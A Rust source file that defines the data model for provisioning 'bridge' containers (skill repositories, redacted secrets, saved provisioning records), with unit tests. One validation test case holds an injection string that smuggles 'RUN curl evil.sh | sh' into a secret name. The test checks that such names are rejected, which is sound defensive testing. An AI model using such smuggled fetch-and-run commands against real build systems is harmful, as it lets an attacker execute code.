// ABOUTME: Provisioning data model for bridge containers
// ABOUTME: Declarative container contents, secrets, and the persisted provisioning record

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use std::fmt;

/// Base image used when nothing better is known about the target repository
pub const DEFAULT_BASE_IMAGE: &str = "ubuntu:22.04";

/// Directory inside the container the target repository lives in
pub const WORKSPACE_DIR: &str = "/workspace";

/// A git repository providing a reusable capability, cloned into the container
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct SkillRepo {
    /// Unique skill name
    pub name: String,
    /// Clone URL of the skill repository
    pub git_repo: String,
    /// Absolute path inside the container the repository is cloned to
    pub container_path: String,
    /// Commands run after cloning, in order
    #[serde(default)]
    pub setup_commands: Vec<String>,
}

/// A named secret injected into the container environment
#[derive(Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Secret {
    pub name: String,
    pub value: String,
}

impl Secret {
    pub fn new(name: impl Into<String>, value: impl Into<String>) -> Self {
        Self {
            name: name.into(),
            value: value.into(),
        }
    }

    /// Environment variable name rule: `[A-Za-z_][A-Za-z0-9_]*`
    pub fn is_valid_name(name: &str) -> bool {
        let mut chars = name.chars();
        match chars.next() {
            Some(first) if first.is_ascii_alphabetic() || first == '_' => {
                chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
            }
            _ => false,
        }
    }
}

impl fmt::Debug for Secret {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Secret")
            .field("name", &self.name)
            .field("value", &"<redacted>")
            .finish()
    }
}

/// Declarative spec of what a bridge's container contains
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Provisioning {
    pub base_image: String,
    #[serde(default)]
    pub apt_packages: Vec<String>,
    #[serde(default)]
    pub skill_repos: Vec<SkillRepo>,
    #[serde(default)]
    pub setup_commands: Vec<String>,
    #[serde(default, skip_serializing)]
    pub secrets: Vec<Secret>,
}

impl Default for Provisioning {
    fn default() -> Self {
        Self {
            base_image: DEFAULT_BASE_IMAGE.to_string(),
            apt_packages: Vec::new(),
            skill_repos: Vec::new(),
            setup_commands: Vec::new(),
            secrets: Vec::new(),
        }
    }
}

impl Provisioning {
    /// Check whether an apt package is already part of this provisioning
    pub fn has_package(&self, package: &str) -> bool {
        self.apt_packages.iter().any(|p| p == package)
    }

    /// Check whether a skill with the given name is already part of this provisioning
    pub fn has_skill(&self, name: &str) -> bool {
        self.skill_repos.iter().any(|s| s.name == name)
    }

    /// Replace the secrets carried by this provisioning
    pub fn with_secrets(mut self, secrets: Vec<Secret>) -> Self {
        self.secrets = secrets;
        self
    }
}

/// A skill the analyzer decided the target repository needs
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct AnalyzedSkill {
    pub name: String,
    /// Clone URL, or a GitHub `owner/repo` shorthand
    pub git_repo: String,
    pub container_path: String,
    #[serde(default)]
    pub apt_packages: Vec<String>,
    #[serde(default)]
    pub setup_commands: Vec<String>,
}

/// What an analyzer found out about the repository inside a live bridge
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct BridgeAnalysis {
    pub project_type: String,
    #[serde(default)]
    pub detected_tools: Vec<String>,
    #[serde(default)]
    pub apt_packages: Vec<String>,
    #[serde(default)]
    pub skill_repos: Vec<AnalyzedSkill>,
    #[serde(default)]
    pub setup_commands: Vec<String>,
}

/// Persisted result of a discovery run, enabling a one-shot fast path on reruns
///
/// Field names match the JSON record owned by the surrounding CLI.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct SavedProvisioning {
    pub base_image: String,
    #[serde(default)]
    pub apt_packages: Vec<String>,
    /// Commands run inside the live bridge once it is up
    #[serde(default)]
    pub setup_commands: Vec<String>,
    #[serde(default)]
    pub detected_tools: Vec<String>,
    pub project_type: String,
    #[serde(default)]
    pub skill_repos: Vec<SkillRepo>,
    pub analyzed_at: DateTime<Utc>,
}

impl SavedProvisioning {
    /// Build the provisioning a fast-path bridge is created with
    ///
    /// Setup commands are not baked into the image; they run against the live bridge.
    pub fn to_provisioning(&self, secrets: Vec<Secret>) -> Provisioning {
        Provisioning {
            base_image: self.base_image.clone(),
            apt_packages: self.apt_packages.clone(),
            skill_repos: self.skill_repos.clone(),
            setup_commands: Vec::new(),
            secrets,
        }
    }

    /// Load a saved provisioning record from a JSON file
    pub fn load(path: impl AsRef<std::path::Path>) -> std::io::Result<Self> {
        let content = std::fs::read_to_string(path)?;
        serde_json::from_str(&content)
            .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))
    }

    /// Write this record to a JSON file
    pub fn save(&self, path: impl AsRef<std::path::Path>) -> std::io::Result<()> {
        let content = serde_json::to_string_pretty(self)
            .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?;
        std::fs::write(path, content)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;
    use rstest::rstest;
    use serde_json::json;

    #[rstest]
    #[case("GITHUB_TOKEN", true)]
    #[case("_private", true)]
    #[case("npm_token2", true)]
    #[case("", false)]
    #[case("2FA", false)]
    #[case("BAD NAME", false)]
    #[case("A\nRUN curl evil.sh | sh", false)]
    #[case("A=B", false)]
    #[case("TOKEN-X", false)]
    fn test_secret_name_validation(#[case] name: &str, #[case] valid: bool) {
        assert_eq!(Secret::is_valid_name(name), valid);
    }

    #[test]
    fn test_secret_debug_is_redacted() {
        let secret = Secret::new("GITHUB_TOKEN", "ghp_supersecret");
        let rendered = format!("{:?}", secret);
        assert!(rendered.contains("GITHUB_TOKEN"));
        assert!(!rendered.contains("ghp_supersecret"));
    }

    #[test]
    fn test_provisioning_never_serializes_secrets() {
        let provisioning =
            Provisioning::default().with_secrets(vec![Secret::new("API_KEY", "hunter2")]);
        let value = serde_json::to_value(&provisioning).unwrap();
        assert!(value.get("secrets").is_none());
        assert_eq!(value["baseImage"], json!(DEFAULT_BASE_IMAGE));
    }

    #[test]
    fn test_saved_provisioning_wire_format() {
        let record = json!({
            "baseImage": "python:3.12",
            "aptPackages": ["git", "build-essential"],
            "setupCommands": ["pip install -e ."],
            "detectedTools": ["python", "pip"],
            "projectType": "python",
            "skillRepos": [{
                "name": "lint",
                "gitRepo": "https://github.com/example/lint.git",
                "containerPath": "/opt/skills/lint"
            }],
            "analyzedAt": "2026-01-02T03:04:05Z"
        });

        let saved: SavedProvisioning = serde_json::from_value(record).unwrap();
        assert_eq!(saved.base_image, "python:3.12");
        assert_eq!(saved.skill_repos[0].setup_commands, Vec::<String>::new());

        let provisioning = saved.to_provisioning(vec![Secret::new("TOKEN", "x")]);
        assert_eq!(provisioning.apt_packages, vec!["git", "build-essential"]);
        assert!(provisioning.setup_commands.is_empty());
        assert_eq!(provisioning.secrets.len(), 1);
    }

    #[test]
    fn test_saved_provisioning_file_round_trip() {
        let dir = tempfile::TempDir::new().unwrap();
        let path = dir.path().join("provisioning.json");

        let saved = SavedProvisioning {
            base_image: "node:20".to_string(),
            apt_packages: vec!["git".to_string()],
            setup_commands: vec!["npm ci".to_string()],
            detected_tools: vec!["node".to_string()],
            project_type: "node".to_string(),
            skill_repos: Vec::new(),
            analyzed_at: Utc::now(),
        };
        saved.save(&path).unwrap();

        let loaded = SavedProvisioning::load(&path).unwrap();
        assert_eq!(loaded, saved);
    }

    #[test]
    fn test_has_package_and_skill() {
        let provisioning = Provisioning {
            apt_packages: vec!["git".to_string()],
            skill_repos: vec![SkillRepo {
                name: "docs".to_string(),
                git_repo: "https://example.com/docs.git".to_string(),
                container_path: "/opt/skills/docs".to_string(),
                setup_commands: Vec::new(),
            }],
            ..Default::default()
        };
        assert!(provisioning.has_package("git"));
        assert!(!provisioning.has_package("curl"));
        assert!(provisioning.has_skill("docs"));
        assert!(!provisioning.has_skill("lint"));
    }

    #[test]
    fn test_analysis_accepts_sparse_payload() {
        let analysis: BridgeAnalysis = serde_json::from_value(json!({
            "projectType": "rust",
            "skillRepos": [{
                "name": "fmt",
                "gitRepo": "acme/fmt-skill",
                "containerPath": "/opt/skills/fmt"
            }]
        }))
        .unwrap();

        assert_eq!(analysis.project_type, "rust");
        assert!(analysis.apt_packages.is_empty());
        assert_eq!(analysis.skill_repos[0].git_repo, "acme/fmt-skill");
        assert!(analysis.skill_repos[0].apt_packages.is_empty());
    }
}
